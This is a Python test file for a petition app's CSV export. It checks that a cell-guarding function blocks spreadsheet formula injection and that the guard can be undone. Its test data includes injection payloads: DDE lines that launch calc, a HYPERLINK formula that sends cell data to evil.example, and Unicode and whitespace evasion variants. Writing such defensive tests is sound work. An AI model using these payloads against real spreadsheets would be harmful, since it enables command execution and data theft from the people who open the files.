"""No cell of ours is a formula, and what was added to a cell can be taken away again."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from petition_app.domain.spreadsheet import MOST_CHARACTERS, csv_lines, safe_cell, unguarded

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    "\x00=1+1",
    "\ufeff=1+1",
    "\ufeff\x00 =1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x0b=1+1",
    "\x1f=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "'=1+1",
    "' '=1+1",
    "Engineer\n=1+1",
    "Engineer\r\n\t=1+1",
    "Engineer;=1+1",
    "Engineer\t@SUM(1)",
)
HARMLESS = ("Sam Signer", "'t Hooft", "Ba-Shirt =1", "3M", "Zoë 😀 李", "", "A+", "a, b", "R&D - tools", "2026-11-22")

anything = st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from("=+-@＝＋－＠'\t\r\n; \ufeff\x00\u3000"))


def starts_a_formula(text: str) -> bool:
    """Written apart from the code under test: what a spreadsheet sees first, by Unicode category and not by list."""
    for character in text:
        if character in "\t\r\n":
            return True
        if unicodedata.category(character) not in ("Cc", "Cf", "Zs", "Zl", "Zp"):
            return unicodedata.normalize("NFKC", character) in ("=", "+", "-", "@")
    return False


@pytest.mark.parametrize("formula", FORMULAS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe_in_front(formula: str):
    cell = safe_cell(formula)

    assert cell != formula.replace("\x00", "")
    assert not starts_a_formula(cell)
    assert unguarded(cell) == formula.replace("\x00", "")


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(text: str):
    assert safe_cell(text) == text
    assert unguarded(text) == text


@given(anything)
def test_no_text_begins_a_formula(text: str):
    assert not starts_a_formula(safe_cell(text))


@given(anything)
def test_the_guard_can_be_undone(text: str):
    assert unguarded(safe_cell(text)) == text.replace("\x00", "")


@given(st.lists(st.lists(anything, min_size=2, max_size=4), max_size=5))
def test_a_table_written_and_read_and_written_again_is_the_same(rows: list[list[str]]):
    once = csv_lines(rows)
    read = [[unguarded(cell) for cell in row] for row in csv.reader(io.StringIO(once, newline=""))]

    assert csv_lines(read) == once


def test_a_cell_after_a_separator_that_is_not_ours_is_guarded_as_well():
    # Where semicolons part cells, a program may read the rest of a title as a cell of its own.
    assert safe_cell("Lead;=1+1") == "Lead;'=1+1"


def test_a_cell_is_bounded():
    assert len(safe_cell("=" * 100_000)) == MOST_CHARACTERS + 1


def test_lines_are_as_the_standard_has_them():
    rows = [("name", "title"), ('Sam "Sig" Signer', "Lead, tools"), ("=1+1", None), ("two\nlines", 7)]

    assert csv_lines(rows) == ('name,title\r\n"Sam ""Sig"" Signer","Lead, tools"\r\n\'=1+1,\r\n"two\nlines",7\r\n')


cells = st.none() | st.integers() | st.sampled_from([True, False, *FORMULAS, *HARMLESS]) | anything


@given(st.lists(st.lists(cells, min_size=1, max_size=4), max_size=6))
def test_lines_written_together_are_those_of_cells_guarded_one_by_one(rows: list[list[object]]):
    one_by_one = io.StringIO(newline="")
    csv.writer(one_by_one, lineterminator="\r\n").writerows([[safe_cell(value) for value in row] for row in rows])

    together = csv_lines(rows)

    assert together == one_by_one.getvalue()


def test_a_cell_that_is_too_long_is_cut_among_others_as_well():
    lines = csv_lines([["Sam"], ["x" * (MOST_CHARACTERS + 1)], ["Noa"]])

    assert lines == f"Sam\r\n{'x' * MOST_CHARACTERS}\r\nNoa\r\n"
